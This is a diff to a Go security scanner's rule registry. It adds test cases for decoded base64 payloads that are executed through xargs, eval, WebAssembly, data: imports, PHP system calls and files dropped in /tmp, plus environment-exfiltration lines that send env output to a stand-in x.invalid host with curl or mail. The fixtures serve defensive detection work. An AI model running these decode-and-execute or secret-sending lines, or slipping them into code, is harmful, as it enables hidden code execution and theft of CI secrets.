@@ -139,6 +139,20 @@ var registry = []Rule{
 			{".github/workflows/x.yml", "on: push\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - shell: pwsh\n        run: |\n          $c = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($env:P))\n          Invoke-Expression $c", 0, false},
 			{".github/workflows/x.yml", "on: push\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/github-script@v7\n        with:\n          script: |\n            const s = Buffer.from(process.env.P, 'base64').toString()\n            require('child_process').execSync(s)", 0, false},
 			{".github/workflows/x.yml", "on: push\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - shell: pwsh\n        run: |\n          $bytes = [Convert]::FromBase64String($env:SIGNING_CERT)\n          [IO.File]::WriteAllBytes(\"cert.pfx\", $bytes)\n          Import-PfxCertificate -FilePath cert.pfx -CertStoreLocation Cert:\\CurrentUser\\My", 0, true},
+			// Decoded text handed on by xargs, install /dev/stdin, mapfile.
+			{"x.sh", "echo $P | base64 -d | xargs -I{} sh -c '{}'", 0, false},
+			{"x.sh", "echo $P | base64 -d | install -m 755 /dev/stdin /usr/local/bin/t && t", 0, false},
+			{"x.sh", "mapfile -t L < <(echo \"$P\" | base64 -d)\nfor l in \"${L[@]}\"; do eval \"$l\"; done", 2, false},
+			// WebAssembly and a data: URL import are code; PHP's call_user_func('system').
+			{"x.js", "WebAssembly.instantiate(Buffer.from(P, 'base64')).then(m => m.instance.exports.run())", 0, false},
+			{"x.mjs", "await import(`data:text/javascript;base64,${P}`)", 0, false},
+			{"x.php", "<?php call_user_func('system', base64_decode($p));", 0, false},
+			{".github/workflows/x.yml", "on: push\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - shell: python\n        run: |\n          import base64, subprocess\n          c = base64.b64decode(\"Y3VybA==\").decode()\n          subprocess.run(c, shell=True)", 0, false},
+			// Decoded bytes written to a literal path, then started by it.
+			{"x.go", "package main\nimport (\"encoding/base64\"; \"os\"; \"os/exec\")\nfunc main() {\n\tb, _ := base64.StdEncoding.DecodeString(P)\n\tos.WriteFile(\"/tmp/x\", b, 0o755)\n\texec.Command(\"/tmp/x\").Run()\n}", 6, false},
+			{"x.py", "import base64, subprocess, os\nb = base64.b64decode(P)\nopen(\"/tmp/x\", \"wb\").write(b)\nos.chmod(\"/tmp/x\", 0o755)\nsubprocess.run([\"/tmp/x\"])", 0, false},
+			{"x.js", "const fs = require('fs'), cp = require('child_process')\nfs.writeFileSync('/tmp/x', Buffer.from(P, 'base64'), { mode: 0o755 })\ncp.execFileSync('/tmp/x')", 0, false},
+			{"x.py", "import base64, subprocess\nb = base64.b64decode(CERT)\nopen(\"cert.pem\", \"wb\").write(b)\nsubprocess.run([\"openssl\", \"x509\", \"-in\", \"cert.pem\", \"-noout\"])", 0, true},
 			// A shell's argument list with -c, in any language.
 			{"noxfile.py", "import nox, base64\n@nox.session\ndef t(session):\n    session.run(\"sh\", \"-c\", base64.b64decode(P).decode(), external=True)", 0, false},
 		}},
@@ -374,6 +388,7 @@ var registry = []Rule{
 	{"secret-send", KindCredential, High, "sends secrets or the environment over the network",
 		"the runner's tokens and secrets leave for a machine outside", []Case{
 			{"x.sh", `curl -s -d "$(env)" https://x.invalid/c`, 0, false},
+			{"x.sh", "env | xargs -I{} curl https://x.invalid/{}", 0, false},
 			// Mail carries what it reads as well as a socket does.
 			{"x.sh", "env | mail -s report ops@x.invalid", 0, false},
 			{"x.sh", `swaks --to a@x.invalid --body "$(env)"`, 0, false},
